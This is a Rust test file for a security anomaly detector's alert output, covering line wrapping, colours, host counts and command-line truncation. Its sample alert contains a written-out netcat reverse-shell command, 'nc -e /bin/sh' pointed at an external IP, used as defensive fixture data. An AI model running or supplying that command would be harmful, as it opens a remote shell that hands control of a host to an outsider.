use std::net::IpAddr;

use super::*;
use crate::output::alerts::places::Place;
use crate::output::alerts::scene::{NOW, document, named, quiet, shell, written};
use crate::output::columns::width;
use crate::output::scene::{HOSTILE, Scene};
use crate::output::unseen::is_unseen;

struct Example;

impl Places for Example {
    fn place(&self, ip: IpAddr) -> Option<Place> {
        assert_eq!(ip.to_string(), "93.184.216.34");
        let text = |text: &str| Some(text.to_string());
        Some(Place {
            country: text("US"),
            network: text("AS15133"),
            organisation: text("Edge Inc"),
        })
    }
}

fn text(width: Option<usize>) -> Text {
    Text::new(width, false, Some(Box::new(Example))).explained_by(" audit.log".into())
}

const SHELL: &str = r#"
   75  nc on web-01, 2 connections to 93.184.216.34:443 (external)
       2026-08-14 10:15-10:30 UTC, low (risk 21): Unusual Linux Network Activity
  why  nc was seen in 1 of 1,289 active quarter-hours since 1 Aug, never before;
       5 other programs make up the rest; in about 11 of them it would be
       ordinary (score below 50)
  who  lab (uid 1500)
  ran  nc -e /bin/sh 93.184.216.34 443
  exe  /usr/bin/nc.openbsd[812] in /tmp/.x from bash[1]
   to  93.184.216.34:443 tcp (external, US, AS15133 "Edge Inc")
 past  first seen now; 1 of 1289 buckets; 1 host; no cadence
mitre  Command and Control (T1071), Lateral Movement
 next  1. Ask whoever looks after the host whether they know the program.
       2. Look at what else the user did.
 more  oddsock explain 92b0934275dccf84 audit.log

"#;

#[test]
fn an_alert_says_what_happened_and_then_what_one_would_ask() {
    let unbroken = SHELL.replace("before;\n       ", "before; ").replace("be\n       ", "be ");
    assert_eq!(format!("\n{}", written(&mut text(None), &[shell()])), unbroken);
}

#[test]
fn on_a_terminal_lines_are_broken_at_its_width() {
    let said = written(&mut text(Some(80)), &[shell()]);
    assert!(said.lines().all(|line| width(line) <= 80), "{said}");
    assert_eq!(format!("\n{said}"), SHELL);
}

#[test]
fn hostile_names_add_no_line_and_hide_nothing() {
    for name in HOSTILE {
        let said = written(&mut text(None), &[named(name)]);
        assert!(!said.chars().any(|c| c != '\n' && is_unseen(c)), "{said}");
        assert_eq!(said.lines().count(), 13, "{said}");
        for width_of_all in [20, 40, 80] {
            let said = written(&mut text(Some(width_of_all)), &[named(name)]);
            let broken = said.lines().filter(|line| !line.starts_with(" more  "));
            assert!(broken.clone().all(|line| width(line) <= width_of_all.max(27)), "{said}");
        }
    }
}

#[test]
fn the_command_that_explains_is_one_line_however_narrow_the_terminal_is() {
    let words = format!(" 'a b' '{}' c", "d".repeat(99));
    let text = Text::new(Some(30), false, None).explained_by(words.clone());
    let said = written(&mut { text }, &[shell()]);
    assert!(
        said.contains(&format!("\n more  oddsock explain 92b0934275dccf84{words}\n")),
        "{said}"
    );
}

#[test]
fn advice_is_given_once_for_each_rule() {
    let said = written(&mut text(None), &[shell(), shell()]);
    assert_eq!(said.matches("next  1. ").count(), 1, "{said}");
    let more = "more  oddsock explain 92b0934275dccf84 audit.log\n";
    assert_eq!(said.matches(more).count(), 2, "{said}");
}

#[test]
fn colours_are_there_only_if_they_are_wanted() {
    let said = written(&mut Text::new(None, true, None), &[shell()]);
    assert!(said.contains("\u{1b}[1m\u{1b}[31mnc on web-01"), "{said:?}");
    assert!(!written(&mut Text::new(None, false, None), &[shell()]).contains('\u{1b}'));
}

#[test]
fn an_alert_whose_events_have_left_says_so() {
    let mut alert = shell();
    alert.evidence.clear();
    alert.connections = Number { number: 0, is_exact: false };
    let said = written(&mut text(None), &[alert]);
    assert!(said.contains("the events themselves were not kept"), "{said}");
}

#[test]
fn of_many_different_events_a_few_are_shown_and_the_rest_are_counted() {
    let mut facts = quiet("destination.port");
    for port in 4000..4020_u32 {
        let address = format!("0200{port:04X}0A00000{:X}0000000000000000", port % 16);
        let event = document(&Scene { address, exit: 0, ..Scene::default() });
        facts.see(NOW, "web-01", port.to_string().as_bytes(), &event);
    }
    let said = written(&mut Text::new(Some(80), false, None), &[facts.alert(NOW)]);
    let expected = "
   to  10.0.0.0:4000 tcp (internal)
       10.0.0.1:4001 tcp (internal)
       10.0.0.2:4002 tcp (internal)
       and 5 more
";
    assert!(said.contains(expected), "{said}");
    assert!(said.starts_with("   75  20 new ports at once on web-01, 20 connections\n"), "{said}");
}

#[test]
fn what_is_said_of_some_connections_is_not_said_of_all() {
    let mut facts = quiet("process.name");
    let one = document(&Scene { comm: b"nc".to_vec(), ..Scene::default() });
    let said_of =
        |facts: &crate::alert::scene::Scene| written(&mut text(None), &[facts.alert(NOW)]);
    (0..8).for_each(|_| facts.see(NOW, "web-01", b"nc", &one));
    let said = said_of(&facts);
    let first = said.lines().next().unwrap();
    assert!(
        first.ends_with("nc on web-01, 8 connections to 93.184.216.34:443 (external)"),
        "{first}"
    );
    assert!(!said.contains("as far as"), "{said}");
    facts.see(NOW, "web-01", b"nc", &one);
    let said = said_of(&facts);
    let first = said.lines().next().unwrap();
    let end = "nc on web-01, 9 connections, 8 of them to 93.184.216.34:443 (external)";
    assert!(first.ends_with(end), "{first}");
    assert!(said.contains("\n       as far as 8 of 9 connections tell\n"), "{said}");
}

#[test]
fn all_hosts_are_counted_though_not_all_are_named() {
    let mut facts = quiet("process.name");
    let hosts: Vec<String> = (0..30).map(|at| format!("w{at}")).collect();
    hosts.iter().for_each(|host| facts.see(NOW, host, b"nc", "{}"));
    let alert = facts.alert(NOW);
    assert!(alert.hosts.len() < 30, "not all are named");
    let said = written(&mut text(None), &[alert]);
    assert!(said.lines().next().unwrap().contains(" and 29 other hosts, 30 connections"), "{said}");
    assert!(said.contains("; about 30 hosts; "), "{said}");
}

#[test]
fn a_long_command_line_takes_a_few_lines_of_a_terminal_and_all_of_a_file() {
    let arguments: Vec<Vec<u8>> = (0..60).map(|n| format!("--not=/srv/{n}").into_bytes()).collect();
    let mut facts = quiet("process.name");
    facts.see(NOW, "web-01", b"nc", &document(&Scene { arguments, ..Scene::default() }));
    let alerts = [facts.alert(NOW)];
    let said = written(&mut text(Some(80)), &alerts);
    let line = said.lines().find(|line| line.ends_with(" …")).expect("a line that is cut");
    assert!(line.contains("--not=/srv/"), "{said}");
    let said = written(&mut text(None), &alerts);
    assert!(said.contains(" --not=/srv/59\n"), "{said}");
}
